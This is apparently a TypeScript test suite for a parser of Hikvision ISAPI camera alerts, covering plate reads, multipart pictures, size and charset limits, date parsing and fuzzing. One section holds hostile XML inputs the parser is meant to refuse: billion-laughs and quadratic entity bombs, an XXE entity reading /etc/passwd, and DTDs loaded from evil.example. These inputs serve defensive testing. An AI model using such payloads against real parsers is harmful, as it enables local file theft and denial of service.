import fc from 'fast-check';
import { performance } from 'node:perf_hooks';
import { DomainError, toErrorBody } from '@kouan/common';
import {
  ISAPI_LIMITS,
  IsapiError,
  parseIsapiAlert,
  parseIsapiDateTime,
  type IsapiAlert,
  type IsapiErrorCode,
  type IsapiLimits,
} from '@kouan/gate';
import { anprParts, fakeJpeg, isapiFixture, multipartAlert, type FormPart } from '../fixtures/isapi';

const XML = 'application/xml';

/** The code an alert is refused with, or its result when it is not. */
async function outcome(
  body: Buffer | string,
  contentType: string | null = XML,
  limits?: Partial<IsapiLimits>,
): Promise<IsapiErrorCode | IsapiAlert> {
  try {
    return await parseIsapiAlert(typeof body === 'string' ? Buffer.from(body) : body, contentType ?? undefined, limits);
  } catch (e) {
    if (e instanceof IsapiError) return e.code;
    throw e;
  }
}

/** As `outcome`, printing how long the refusal took (no budget asserted: this machine is shared). */
async function timedOutcome(what: string, body: Buffer | string, contentType = XML) {
  const started = performance.now();
  const result = await outcome(body, contentType);
  console.log(
    `${what} (${Buffer.byteLength(body)} bytes): ${String(result)} in ${(performance.now() - started).toFixed(2)} ms`,
  );
  return result;
}

/** A minimal alert around `inner` (an ANPR block by default). */
const alert = (
  inner = '<ANPR><licensePlate>云A12345</licensePlate><confidenceLevel>90</confidenceLevel></ANPR>',
  type = 'ANPR',
) =>
  `<?xml version="1.0" encoding="UTF-8"?><EventNotificationAlert version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema">` +
  `<eventType>${type}</eventType><eventState>active</eventState>${inner}</EventNotificationAlert>`;

const anprBlock = (plate: string | null, level: string | null = '90') =>
  `<ANPR>${plate === null ? '' : `<licensePlate>${plate}</licensePlate>`}` +
  `${level === null ? '' : `<confidenceLevel>${level}</confidenceLevel>`}</ANPR>`;

describe('parseIsapiAlert: plain XML', () => {
  it('reads a Hikvision ANPR alert (hikvision.com namespace): the plate as sent, confidence 0..1, the time with its offset', async () => {
    for (const contentType of [
      'application/xml',
      'text/xml',
      'application/xml; charset="UTF-8"',
      'text/xml;charset=utf8',
    ]) {
      expect(await outcome(isapiFixture('anpr-hikvision.xml'), contentType)).toEqual({
        kind: 'plate',
        plate: '云A·12345',
        confidence: 0.93,
        at: new Date('2026-12-05T01:41:07Z'),
        channel: '1',
        images: [],
      });
    }
  });

  it('reads the isapi.org namespace, references in text, a "-7:00" offset with milliseconds, dynChannelID', async () => {
    expect(await outcome(isapiFixture('anpr-isapi-org.xml'))).toEqual({
      kind: 'plate',
      plate: 'ກຂ 1234',
      confidence: 0.78,
      at: new Date('2026-12-05T02:02:44.250Z'),
      channel: '2',
      images: [],
    });
  });

  it('reads prefixed names and CDATA alike; a dateTime without an offset leaves the time unknown', async () => {
    const read = await outcome(isapiFixture('anpr-prefixed.xml'));
    expect(read).toEqual({ kind: 'plate', plate: '云K·77777', confidence: 1, channel: '3', images: [] });
    expect(read).not.toHaveProperty('at');
  });

  it('reads an alert with no namespace, no XML declaration and a UTF-8 byte order mark', async () => {
    const bare = `\uFEFF<EventNotificationAlert><eventType>ANPR</eventType>${anprBlock(' 29C-123.45 ', '85.5')}</EventNotificationAlert>`;
    expect(await outcome(bare, 'text/xml')).toEqual({
      kind: 'plate',
      plate: '29C-123.45',
      confidence: 0.855,
      images: [],
    });
  });

  it('a heartBeat, or videoloss inactive (an idle device), is a heartbeat; videoloss active and VMD are other events', async () => {
    expect(await outcome(isapiFixture('heartbeat.xml'))).toEqual({ kind: 'heartbeat' });
    expect(await outcome(isapiFixture('videoloss-inactive.xml'))).toEqual({ kind: 'heartbeat' });
    expect(await outcome(alert('', 'videoloss'))).toEqual({ kind: 'other', eventType: 'videoloss' });
    expect(await outcome(isapiFixture('vmd.xml'))).toEqual({ kind: 'other', eventType: 'VMD' });
  });
});

describe('parseIsapiAlert: multipart', () => {
  it('reads the XML part and keeps the pictures, in order, with their bytes (Hikvision framing)', async () => {
    const { body, contentType } = multipartAlert(anprParts(isapiFixture('anpr-hikvision.xml')));
    const read = await outcome(body, contentType);
    expect(read).toMatchObject({ kind: 'plate', plate: '云A·12345', confidence: 0.93, channel: '1' });
    const images = (read as Extract<IsapiAlert, { kind: 'plate' }>).images;
    expect(images.map(({ name, contentType: type, bytes }) => ({ name, type, size: bytes.length }))).toEqual([
      { name: 'licensePlatePicture.jpg', type: 'image/jpeg', size: 3_000 },
      { name: 'detectionPicture.jpg', type: 'image/jpeg', size: 120_000 },
    ]);
    expect(images[0].bytes.equals(fakeJpeg(3_000, 0x11))).toBe(true);
    expect(images[1].bytes.equals(fakeJpeg(120_000, 0x22))).toBe(true);
  });

  it('reads an XML part without pictures, sent as a plain field (no file name) and found by its name', async () => {
    for (const part of [
      { name: 'anpr.xml', contentType: 'text/xml', body: isapiFixture('anpr-isapi-org.xml') },
      { name: 'MoveDetection.xml', body: isapiFixture('anpr-isapi-org.xml') },
      {
        name: 'alert',
        filename: 'ANPR.xml',
        contentType: 'application/octet-stream',
        body: isapiFixture('anpr-isapi-org.xml'),
      },
    ] satisfies FormPart[]) {
      const { body, contentType } = multipartAlert([part], 'MIME_boundary');
      expect(await outcome(body, contentType)).toEqual({
        kind: 'plate',
        plate: 'ກຂ 1234',
        confidence: 0.78,
        at: new Date('2026-12-05T02:02:44.250Z'),
        channel: '2',
        images: [],
      });
    }
  });

  it('a heartbeat or another event in a form keeps no pictures; parts that are neither XML nor picture are skipped', async () => {
    const heartbeat = multipartAlert(anprParts(isapiFixture('heartbeat.xml')));
    expect(await outcome(heartbeat.body, heartbeat.contentType)).toEqual({ kind: 'heartbeat' });
    const withNote = multipartAlert([
      { name: 'note', body: 'not an alert' },
      ...anprParts(isapiFixture('anpr-hikvision.xml'), false),
    ]);
    expect(await outcome(withNote.body, withNote.contentType)).toMatchObject({ kind: 'plate', images: [] });
  });

  it.each<[string, FormPart[], IsapiErrorCode]>([
    [
      'no XML part',
      [{ name: 'licensePlatePicture.jpg', filename: 'p.jpg', contentType: 'image/jpeg', body: fakeJpeg() }],
      'malformed_alert',
    ],
    ['two XML parts', [...anprParts(alert(), false), ...anprParts(alert(), false)], 'malformed_alert'],
    [
      `more than ${ISAPI_LIMITS.parts} parts`,
      [...anprParts(alert(), false), ...Array.from({ length: 8 }, (_, i) => ({ name: `p${i}`, body: 'x' }))],
      'alert_too_large',
    ],
    [
      'a picture over 1 MiB',
      [
        ...anprParts(alert(), false),
        { name: 'detectionPicture.jpg', filename: 'd.jpg', contentType: 'image/jpeg', body: fakeJpeg(1024 * 1024 + 1) },
      ],
      'alert_too_large',
    ],
    [
      'an XML file part over 64 KiB',
      anprParts(alert(`<!--${'x'.repeat(64 * 1024)}-->${anprBlock('云A1')}`), false),
      'alert_too_large',
    ],
    [
      'an XML field part over 64 KiB',
      [
        {
          name: 'anpr.xml',
          contentType: 'text/xml',
          body: alert(`<!--${'x'.repeat(64 * 1024)}-->${anprBlock('云A1')}`),
        },
      ],
      'alert_too_large',
    ],
    ['an XML part that is not an alert', anprParts('<SubscribeEventResponse/>', false), 'malformed_alert'],
    [
      'a GBK XML file part',
      anprParts(Buffer.from([...Buffer.from(alert(anprBlock('云A'))).subarray(0, 60), 0xd4, 0xc6]), false),
      'unsupported_media_type',
    ],
    [
      'an XML field part in a charset busboy cannot decode',
      [{ name: 'anpr.xml', contentType: 'text/xml; charset=gbk', body: alert() }],
      'unsupported_media_type',
    ],
    [
      'an XML field part that is not UTF-8',
      [{ name: 'anpr.xml', contentType: 'text/xml', body: Buffer.from([0x3c, 0xd4, 0xc6, 0x41]) }],
      'unsupported_media_type',
    ],
  ])('%s → %s', async (_what, parts, code) => {
    const { body, contentType } = multipartAlert(parts);
    expect(await outcome(body, contentType)).toBe(code);
  });

  it('a form without a boundary, cut short, or with a broken part header is malformed', async () => {
    const { body, contentType } = multipartAlert(anprParts(isapiFixture('anpr-hikvision.xml')));
    expect(await outcome(body, 'multipart/form-data')).toBe('malformed_alert');
    expect(await outcome(body.subarray(0, body.length - 200), contentType)).toBe('malformed_alert');
    expect(await outcome(body.subarray(0, 80), contentType)).toBe('malformed_alert');
    const broken = Buffer.from(`--b\r\nContent-Disposition form-data\r\n\r\nx\r\n--b--\r\n`);
    expect(await outcome(broken, 'multipart/form-data; boundary=b')).toBe('malformed_alert');
    expect(await outcome(Buffer.alloc(0), 'multipart/form-data; boundary=b')).toBe('malformed_alert');
  });

  it(`a body over ${ISAPI_LIMITS.totalBytes} bytes is refused before its form is read`, async () => {
    const pictures = Array.from({ length: 3 }, (_, i) => ({
      name: `p${i}.jpg`,
      filename: `p${i}.jpg`,
      contentType: 'image/jpeg',
      body: fakeJpeg(800 * 1024),
    }));
    const { body, contentType } = multipartAlert([...anprParts(alert(), false), ...pictures]);
    expect(body.length).toBeGreaterThan(ISAPI_LIMITS.totalBytes);
    expect(await outcome(body, contentType)).toBe('alert_too_large');
  });
});

describe('parseIsapiAlert: refusals', () => {
  it.each([
    ['no Content-Type', null],
    ['JSON', 'application/json'],
    ['text', 'text/plain'],
    ['a form in another encoding', 'application/x-www-form-urlencoded'],
    ['XML in GBK', 'text/xml; charset=GBK'],
    ['XML in Latin-1', 'application/xml; charset="iso-8859-1"'],
    ['XML in UTF-16', 'application/xml; charset=utf-16'],
  ])('%s → unsupported_media_type', async (_what, contentType) => {
    expect(await outcome(isapiFixture('anpr-hikvision.xml'), contentType)).toBe('unsupported_media_type');
  });

  it('bytes that are not UTF-8, UTF-16 with its byte order mark, or an XML declaration naming GB2312 → unsupported_media_type', async () => {
    const xml = alert(anprBlock('云A12345'));
    const gbk = Buffer.concat([Buffer.from(xml.slice(0, 150)), Buffer.from([0xd4, 0xc6]), Buffer.from(xml.slice(150))]);
    expect(await outcome(gbk)).toBe('unsupported_media_type');
    expect(await outcome(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]))).toBe(
      'unsupported_media_type',
    );
    expect(await outcome(xml.replace('encoding="UTF-8"', 'encoding="GB2312"'))).toBe('unsupported_media_type');
  });

  it.each([
    ['nothing', ''],
    ['form text', 'plate=云A12345'],
    ['JSON', '{"EventNotificationAlert":{"eventType":"ANPR"}}'],
    ['an unclosed element', alert().replace('</EventNotificationAlert>', '')],
    ['a cut-off document', alert().slice(0, 150)],
    ['mismatched tags', alert().replace('</licensePlate>', '</licenseplate>')],
    ['two document elements', `${alert()}<EventNotificationAlert/>`],
    ['text after the document element', `${alert()} trailing`],
    ['an unquoted attribute', alert().replace('version="2.0"', 'version=2.0')],
    ['a repeated attribute', alert().replace('version="2.0"', 'version="2.0" version="2.0"')],
    ['attributes run together', alert().replace('version="2.0" ', 'version="2.0"')],
    ['a bare ampersand', alert(anprBlock('A&B'))],
    ['a "<" in an attribute value', alert().replace('version="2.0"', 'version="<2"')],
    ['a control character', alert(anprBlock('云A\u000112345'))],
    ['a character reference to NUL', alert(anprBlock('云A&#0;1'))],
    ['a character reference past Unicode', alert(anprBlock('云A&#x110000;1'))],
    ['an unterminated comment', `${alert()}<!-- never closed`],
    ['another document element', '<SubscribeEventResponse version="2.0"/>'],
    ['no eventType', alert().replace(/<eventType>.*<\/eventType>/, '')],
    ['an ANPR alert without its ANPR block', alert('')],
    ['a missing plate', alert(anprBlock(null))],
    ['an empty plate', alert(anprBlock('   '))],
    ['a plate longer than 32 characters', alert(anprBlock('A'.repeat(33)))],
    ['a plate with a line break', alert(anprBlock('云A&#10;12345'))],
    ['a missing confidence', alert(anprBlock('云A12345', null))],
    ['a confidence over 100', alert(anprBlock('云A12345', '101'))],
    ['a negative confidence', alert(anprBlock('云A12345', '-1'))],
    ['a confidence in words', alert(anprBlock('云A12345', 'high'))],
    ['a dateTime that is not one', alert(`<dateTime>yesterday</dateTime>${anprBlock('云A1')}`)],
    ['the 30th of February', alert(`<dateTime>2026-02-30T10:00:00+08:00</dateTime>${anprBlock('云A1')}`)],
    ['an offset of 25 hours', alert(`<dateTime>2026-12-05T10:00:00+25:00</dateTime>${anprBlock('云A1')}`)],
  ])('%s → malformed_alert', async (_what, body) => {
    expect(await outcome(body)).toBe('malformed_alert');
  });

  it(`XML over ${ISAPI_LIMITS.xmlBytes} bytes → alert_too_large, and the limits can be set per call`, async () => {
    const padded = alert(`<!--${'x'.repeat(ISAPI_LIMITS.xmlBytes)}-->${anprBlock('云A12345')}`);
    expect(await outcome(padded)).toBe('alert_too_large');
    const small = alert(anprBlock('云A12345'));
    expect(await outcome(small, XML, { xmlBytes: small.length - 1 })).toBe('alert_too_large');
    expect(await outcome(small, XML, { xmlBytes: Buffer.byteLength(small) })).toMatchObject({ kind: 'plate' });
  });

  it('an IsapiError is a DomainError answered 400, 413 or 415 in the contract shape with its code', () => {
    const answers = (['malformed_alert', 'xml_not_allowed', 'alert_too_large', 'unsupported_media_type'] as const).map(
      (code) => {
        const error = new IsapiError(code, 'why');
        expect(error).toBeInstanceOf(DomainError);
        const { statusCode, code: answered, message } = toErrorBody(error);
        return { statusCode, code: answered, message };
      },
    );
    expect(answers).toEqual([
      { statusCode: 400, code: 'malformed_alert', message: 'why' },
      { statusCode: 400, code: 'xml_not_allowed', message: 'why' },
      { statusCode: 413, code: 'alert_too_large', message: 'why' },
      { statusCode: 415, code: 'unsupported_media_type', message: 'why' },
    ]);
  });
});

describe('parseIsapiAlert: XML bombs and declarations are refused before any element is read', () => {
  const billionLaughs =
    '<?xml version="1.0"?>\n<!DOCTYPE EventNotificationAlert [\n <!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">\n`).join('') +
    ']>\n' +
    alert(anprBlock('&lol9;')).replace(/^<\?xml[^>]*>/, '');

  it('billion laughs (DOCTYPE with nested entities) → xml_not_allowed', async () => {
    expect(billionLaughs).toContain('<!ENTITY lol9 "&lol8;&lol8;');
    expect(await timedOutcome('billion laughs', billionLaughs)).toBe('xml_not_allowed');
  });

  it('quadratic blowup (one 50,000-character entity referenced 1,000 times) → xml_not_allowed', async () => {
    const quadratic =
      `<!DOCTYPE EventNotificationAlert [<!ENTITY a "${'a'.repeat(50_000)}">]>` + alert(anprBlock('&a;'.repeat(1_000)));
    expect(await timedOutcome('quadratic blowup', quadratic)).toBe('xml_not_allowed');
  });

  it('an external entity (XXE), a parameter entity, a bare DOCTYPE or a processing instruction → xml_not_allowed', async () => {
    for (const prolog of [
      '<!DOCTYPE EventNotificationAlert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE EventNotificationAlert [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
      '<!DOCTYPE EventNotificationAlert SYSTEM "http://evil.example/alert.dtd">',
      '<!doctype EventNotificationAlert>',
      '<?xml-stylesheet href="x.xsl"?>',
    ]) {
      expect(await outcome(alert().replace(/^(<\?xml[^>]*>)/, `$1${prolog}`))).toBe('xml_not_allowed');
    }
    expect(await outcome(alert(`<?php echo 1; ?>${anprBlock('云A1')}`))).toBe('xml_not_allowed');
    expect(await outcome(`<?XML version="1.0"?>${alert().replace(/^<\?xml[^>]*>/, '')}`)).toBe('xml_not_allowed');
    expect(await outcome(`${alert()}<?xml version="1.0"?>`)).toBe('xml_not_allowed');
    // Inside a comment too: nothing of a DTD gets near the reader.
    expect(await outcome(alert(`<!-- <!ENTITY x "y"> -->${anprBlock('云A1')}`))).toBe('xml_not_allowed');
  });

  it('the refusal comes before reading: a DOCTYPE ahead of a broken document is xml_not_allowed, not malformed', async () => {
    expect(await outcome('<!DOCTYPE x [<!ENTITY a "b">]><EventNotificationAlert><unclosed')).toBe('xml_not_allowed');
    expect(await outcome('<EventNotificationAlert><unclosed><!DOCTYPE x>')).toBe('xml_not_allowed');
  });

  it('there is no entity to expand: a reference to any but the five predefined → xml_not_allowed, DTD or not', async () => {
    expect(await outcome(alert(anprBlock('&lol9;')))).toBe('xml_not_allowed');
    expect(await outcome(alert(anprBlock('&nbsp;')))).toBe('xml_not_allowed');
    expect(await outcome(alert().replace('version="2.0"', 'version="&ver;"'))).toBe('xml_not_allowed');
    expect(await outcome(alert(anprBlock('&lt;&gt;&amp;&apos;&quot;&#x4E91;&#20113;')))).toMatchObject({
      plate: '<>&\'"云云',
    });
  });

  it(`nesting deeper than ${ISAPI_LIMITS.depth} → xml_not_allowed; ${ISAPI_LIMITS.depth} levels are read`, async () => {
    // The root is level 1: a chain of levels - 1 elements inside it reaches level `levels`.
    const nested = (levels: number) =>
      alert(`${'<x>'.repeat(levels - 1)}${'</x>'.repeat(levels - 1)}${anprBlock('云A1')}`);
    expect(await outcome(nested(ISAPI_LIMITS.depth))).toMatchObject({ kind: 'plate' });
    expect(await outcome(nested(ISAPI_LIMITS.depth + 1))).toBe('xml_not_allowed');
    const deep = `<EventNotificationAlert>${'<a>'.repeat(20_000)}`;
    expect(await timedOutcome('20,000 levels deep', deep)).toBe('xml_not_allowed');
  });

  it(`more than ${ISAPI_LIMITS.elements} elements, or ${ISAPI_LIMITS.attributes} attributes on one → xml_not_allowed`, async () => {
    const many = alert(`${'<x/>'.repeat(ISAPI_LIMITS.elements)}${anprBlock('云A1')}`);
    expect(await timedOutcome(`${ISAPI_LIMITS.elements} extra elements`, many)).toBe('xml_not_allowed');
    const within = alert(`${'<x/>'.repeat(ISAPI_LIMITS.elements - 10)}${anprBlock('云A1')}`);
    expect(await outcome(within)).toMatchObject({ kind: 'plate' });
    const attributes = (n: number) =>
      alert().replace(
        'version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema"',
        Array.from({ length: n }, (_, i) => `a${i}="${i}"`).join(' '),
      );
    expect(await outcome(attributes(ISAPI_LIMITS.attributes))).toMatchObject({ kind: 'plate' });
    expect(await timedOutcome('3,000 attributes', attributes(3_000))).toBe('xml_not_allowed');
  });
});

describe('parseIsapiDateTime', () => {
  it.each([
    ['2017-04-22T15:39:01+08:00', '2017-04-22T07:39:01.000Z'],
    ['2016-12-24T18:59:49-8:00', '2016-12-25T02:59:49.000Z'],
    ['2026-12-05T09:41:07+0700', '2026-12-05T02:41:07.000Z'],
    ['2026-12-05T09:41:07.5Z', '2026-12-05T09:41:07.500Z'],
    ['2026-12-05T09:41:07.123456+05:45', '2026-12-05T03:56:07.123Z'],
  ])('%s → %s', (value, iso) => {
    expect(parseIsapiDateTime(value)?.toISOString()).toBe(iso);
  });

  it('no offset → undefined (the zone is not known); not a date → malformed_alert', () => {
    expect(parseIsapiDateTime('2026-12-05T09:41:07')).toBeUndefined();
    for (const bad of [
      '2026-12-05 09:41:07+08:00',
      '2026-13-01T00:00:00Z',
      '2026-12-05T24:00:00Z',
      '2026-12-05T09:41:07+08:60',
    ]) {
      expect(() => parseIsapiDateTime(bad)).toThrow(IsapiError);
    }
  });
});

describe('parseIsapiAlert: anything at all', () => {
  it('resolves to an alert or refuses with an IsapiError: nothing else escapes (never a 500)', async () => {
    const real = isapiFixture('anpr-hikvision.xml').toString();
    const pieces = fc.constantFrom(
      '<',
      '>',
      '/',
      '&',
      ';',
      '"',
      "'",
      '=',
      ' ',
      '!',
      '?',
      '[',
      ']',
      '-',
      '#',
      'x',
      '云',
      '<a>',
      '</a>',
      '&amp;',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
    );
    const mutated = fc
      .array(
        fc.record({
          at: fc.nat({ max: real.length }),
          cut: fc.nat({ max: 6 }),
          insert: fc.array(pieces, { maxLength: 3 }),
        }),
        { maxLength: 4 },
      )
      .map((edits) =>
        edits.reduce((text, { at, cut, insert }) => text.slice(0, at) + insert.join('') + text.slice(at + cut), real),
      );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          mutated,
          fc.array(pieces, { maxLength: 40 }).map((p) => p.join('')),
        ),
        async (text) => {
          const result = await outcome(text);
          expect(
            typeof result === 'string'
              ? ['malformed_alert', 'xml_not_allowed', 'unsupported_media_type']
              : ['plate', 'heartbeat', 'other'],
          ).toContain(typeof result === 'string' ? result : result.kind);
        },
      ),
      { seed: 19, numRuns: 3_000 },
    );
  });

  it('a form with random bytes around and inside its parts refuses or reads, never anything else', async () => {
    const { body, contentType } = multipartAlert(anprParts(isapiFixture('anpr-hikvision.xml').toString()));
    await fc.assert(
      fc.asyncProperty(fc.nat({ max: body.length }), fc.uint8Array({ maxLength: 16 }), async (at, noise) => {
        const result = await outcome(Buffer.concat([body.subarray(0, at), noise, body.subarray(at)]), contentType);
        expect(typeof result === 'string' ? result : result.kind).toMatch(
          /^(malformed_alert|unsupported_media_type|xml_not_allowed|alert_too_large|plate|heartbeat|other)$/,
        );
      }),
      { seed: 19, numRuns: 500 },
    );
  });
});
